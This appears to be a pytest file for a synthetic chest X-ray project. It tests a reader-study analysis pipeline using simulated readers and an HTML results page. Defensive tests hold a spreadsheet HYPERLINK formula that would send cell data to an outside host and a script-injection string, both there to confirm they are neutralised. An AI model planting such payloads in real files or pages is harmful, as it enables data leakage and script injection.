"""From exports to page: what was put in comes out, and little data is said in words."""

import json
import math
import shutil
import warnings
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

from xraysynth import compose
from xraysynth.errors import ConfigError, XraysynthError
from xraysynth.evaluation.reader_study import (
    export_format,
    exports,
    reading,
    simulated_exports,
    simulated_readers,
)
from xraysynth.evaluation.reader_study.analysis import Analysis, analyse
from xraysynth.evaluation.reader_study.key import AnswerKey
from xraysynth.report.page import render_reading
from xraysynth.stages import Workspace, review_analyse

CLASSES = ["normal", "pneumonia"]
POPULATION = simulated_readers.ReaderPopulation(
    {"sd_lora": 0.0, "stable_diffusion": 2.5},
    d_prime_spread=0.1,
    criterion_spread=0.1,
    mean_score={"": 1.0, "sd_lora": 1.0, "stable_diffusion": -1.0},
    error_rate={"stable_diffusion": 0.5},
)


def answered(
    folder: Path, population: simulated_readers.ReaderPopulation = POPULATION, **design: Any
) -> tuple[AnswerKey, Any]:
    options = {"per_cell": 20, "readers": 3} | design
    key = simulated_exports.simulate_key(["sd_lora", "stable_diffusion"], CLASSES, **options)
    folder.mkdir(exist_ok=True)
    return key, exports.join_with_key(
        exports.load_exports(simulated_exports.write_exports(key, population, folder), key), key
    )


def analysed(key: AnswerKey, table: Any) -> Analysis:
    return analyse(table, classes=key.classes, question_ids=[q.id for q in key.questions])


def value(found: Analysis, name: str, generator: str = "", label: str = "") -> Any:
    rows = found.results
    here = rows[
        (rows["name"] == name) & (rows["generator"] == generator) & (rows["class"] == label)
    ]
    assert len(here) == 1, (name, generator, label)
    return here.iloc[0]


@pytest.fixture(scope="module")
def key_and_analysis(tmp_path_factory: pytest.TempPathFactory) -> tuple[AnswerKey, Analysis]:
    key, table = answered(tmp_path_factory.mktemp("exports"))
    return key, analysed(key, table)


def test_known_d_prime_is_recovered(key_and_analysis):
    _, found = key_and_analysis
    for generator, d in (("sd_lora", 0.0), ("stable_diffusion", 2.5)):
        row = value(found, "d_prime", generator)
        assert row["low"] < d < row["high"]
        assert (row["n_readers"], row["n_cases"]) == (3, 80)
    assert value(found, "called_real_difference", "stable_diffusion")["high"] < 0
    apart = value(found, "called_real_difference", "sd_lora")
    assert apart["low"] < 0 < apart["high"]
    assert value(found, "realism_difference", "stable_diffusion")["p_holm"] < 0.05
    assert value(found, "errors", "stable_diffusion")["value"] == pytest.approx(50, abs=20)
    assert value(found, "errors", "real")["value"] == 0


def test_holm_is_over_generators(key_and_analysis):
    _, found = key_and_analysis
    rows = [value(found, "realism_difference", g) for g in ("sd_lora", "stable_diffusion")]
    small, large = sorted(rows, key=lambda row: row["p"])
    assert small["p_holm"] == pytest.approx(min(1, 2 * small["p"]))
    assert large["p_holm"] == pytest.approx(max(large["p"], small["p_holm"]))
    assert math.isnan(value(found, "realism_difference")["p_holm"])  # all together is no generator


def test_repeats_say_how_far_readers_agree_with_themselves(key_and_analysis):
    _, found = key_and_analysis
    row = value(found, "same_again_origin")
    assert row["n_cases"] == 12
    assert 0.5 < row["value"] <= 1


def test_a_value_without_a_number_has_words(key_and_analysis):
    rows = key_and_analysis[1].results
    assert (rows["value"].notna() | (rows["note"] != "")).all()
    assert (rows["low"].notna() | (rows["note"] != "")).all()
    inside = rows[rows["low"].notna()]
    assert ((inside["low"] <= inside["value"]) & (inside["value"] <= inside["high"])).all()


ODD = {
    "one reader": {"readers": 1},
    "no repeats": {"repeats": 0},
    "one image a cell": {"per_cell": 1},
}


@pytest.mark.parametrize("design", ODD.values(), ids=ODD)
def test_little_data_is_no_crash(tmp_path, design):
    key, table = answered(tmp_path, **{"per_cell": 4} | design)
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        found = analysed(key, table)
    rows = found.results
    assert (rows["low"].notna() | (rows["note"] != "")).all()


@pytest.mark.parametrize("answer", ["real", "synthetic"])
def test_all_answers_equal(tmp_path, answer):
    key, table = answered(tmp_path, per_cell=4)
    same = table.assign(origin_answer=answer, diagnosis="normal", quality=2, realism=2, errors="")
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        found = analysed(key, same)
    assert value(found, "d_prime", "sd_lora")["value"] == pytest.approx(0)
    assert "all answers alike" in value(found, "fleiss_kappa_origin")["note"]


def test_a_missing_class_generator_and_question(tmp_path):
    key, table = answered(tmp_path, per_cell=4)
    some = table[(table["label"] == "normal") & (table["generator"] != "sd_lora")]
    found = analyse(some, classes=key.classes, question_ids=["origin"])
    assert set(found.results["generator"]) == {"", "real", "stable_diffusion"}
    assert "quality" not in set(found.results["name"])
    assert value(found, "images", "stable_diffusion", "pneumonia")["note"] == "no answered image"


def test_an_unfinished_reader_counts_as_far_as_he_came(tmp_path):
    key, table = answered(tmp_path, per_cell=6)
    short = table[(table["reader"] != "simulated-2") | (table["position"] <= 10)]
    found = analysed(key, short)
    assert value(found, "called_real", "sd_lora")["n_readers"] == 3
    assert "not every reader has seen" in value(found, "fleiss_kappa_origin")["note"]


class Elements(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__()
        self.ids: list[str] = []
        self.links: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        found = dict(attrs)
        if found.get("id"):
            self.ids.append(str(found["id"]))
        self.links += [str(v) for n, v in found.items() if n in ("href", "src", "xlink:href")]


@pytest.fixture(scope="module")
def stage(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, list[str], dict[str, Any]]:
    output = tmp_path_factory.mktemp("outputs")
    key = simulated_exports.simulate_key(
        ["sd_lora", "stable_diffusion"], CLASSES, per_cell=5, readers=2
    )
    replace(key, pools={"sd_lora": "aa", "stable_diffusion": "bb"}, cohort="c0").write(
        output / "reviews/tb/owner/key.json"
    )
    sent = output / "sent"
    sent.mkdir()
    simulated_exports.write_exports(key, POPULATION, sent)
    options = [
        f"paths.output={output}",
        "review.name=tb",
        f"review.exports={sent}",
        "tracking=none",
    ]
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        result = review_analyse.run(Workspace(compose(options), options))
    return output, options, result


def test_the_page_loads_nothing_and_says_who_is_simulated(stage):
    output, _, result = stage
    html = Path(result["page"]).read_text(encoding="utf-8")
    found = Elements(html)
    assert len(found.ids) == len(set(found.ids))
    assert all(link.startswith("#") for link in found.links)
    assert {link[1:] for link in found.links} <= set(found.ids)
    assert 'id="simulated-readers"' in html
    assert 'id="simulated"' in html
    assert "nan" not in html.lower().replace("stable_diffusion", "")
    there = {path.name for path in (output / "reviews/tb/analysis").iterdir()}
    assert set(review_analyse.FILES) <= there


def test_no_comment_of_a_reader_is_a_formula(stage, tmp_path):
    formula = '=HYPERLINK("http://example.org?"&A1,"see here")'
    shutil.copytree(stage[0] / "reviews/tb/owner", tmp_path / "reviews/tb/owner")
    sent = sorted((stage[0] / "sent").iterdir())[0]
    names, cells = export_format.read_table(sent)
    rows = [dict(zip(names, row, strict=True)) | {"comment": formula} for row in cells]
    (tmp_path / sent.name).write_bytes(simulated_exports.format_csv(names, rows))
    options = [
        f"paths.output={tmp_path}",
        "review.name=tb",
        f"review.exports={tmp_path / sent.name}",
    ]
    review_analyse.run(Workspace(compose([*options, "tracking=none"]), options))
    answers = pd.read_csv(tmp_path / "reviews/tb/analysis/answers.csv")
    assert set(answers["comment"]) == {f"'{formula}"}


def test_marks_of_any_class_survive_their_file(stage, tmp_path):
    saved = reading.load_reading(Path(stage[2]["page"]).parent)
    labels = ["=x", "-0.5", "'=x", "normal"] * len(saved.marks)
    marks = saved.marks.assign(label=labels[: len(saved.marks)])
    reading.save_reading(replace(saved, marks=marks), tmp_path)
    pd.testing.assert_frame_equal(reading.load_reading(tmp_path).marks, marks)


def test_the_same_answers_are_not_analysed_again(stage):
    _, options, result = stage
    again = review_analyse.run(Workspace(compose(options), options))
    assert again["skipped"]
    assert again["page"] == result["page"]


def test_people_are_not_called_simulated(stage):
    place = Path(stage[2]["page"]).parent
    people = replace(reading.load_reading(place), simulated_readers=False, simulated_images=False)
    assert "Simulated" not in render_reading(people)


def test_text_from_outside_stays_text(stage):
    place = Path(stage[2]["page"]).parent
    hostile = replace(reading.load_reading(place), name="<script>x</script>", notes=["<b>x"])
    html = render_reading(hostile)
    assert "<script>" not in html
    assert "<b>x" not in html


def test_a_study_finds_the_readings_of_its_images(stage):
    output, _, _ = stage
    place = output / "reviews/tb/analysis"
    assert reading.find_readings(output, "c0", ["aa", "bb", "cc"]) == [place]
    assert reading.find_readings(output, "c0", ["aa"]) == []
    assert reading.find_readings(output, "c1", ["aa", "bb"]) == []


def test_sessions_of_earlier_versions_are_read(stage, tmp_path):
    analysis = Path(stage[2]["page"]).parent
    shutil.copytree(analysis, tmp_path / "analysis")
    path = tmp_path / "analysis" / "reading.json"
    facts = json.loads(path.read_text())
    for session in facts["exports"]:
        session["of"] = session.pop("total")
    path.write_text(json.dumps(facts))
    assert reading.load_reading(path.parent).exports == reading.load_reading(analysis).exports


def test_what_is_missing_is_asked_for(tmp_path):
    simulated_exports.simulate_key(["a"], CLASSES, per_cell=1, readers=1).write(
        tmp_path / "reviews/review/owner/key.json"
    )
    with pytest.raises(ConfigError, match="names the folder or files"):
        review_analyse.run(Workspace(compose([f"paths.output={tmp_path}"]), []))
    with pytest.raises(XraysynthError, match="no such key"):
        review_analyse.run(Workspace(compose([f"paths.output={tmp_path / 'other'}"]), []))
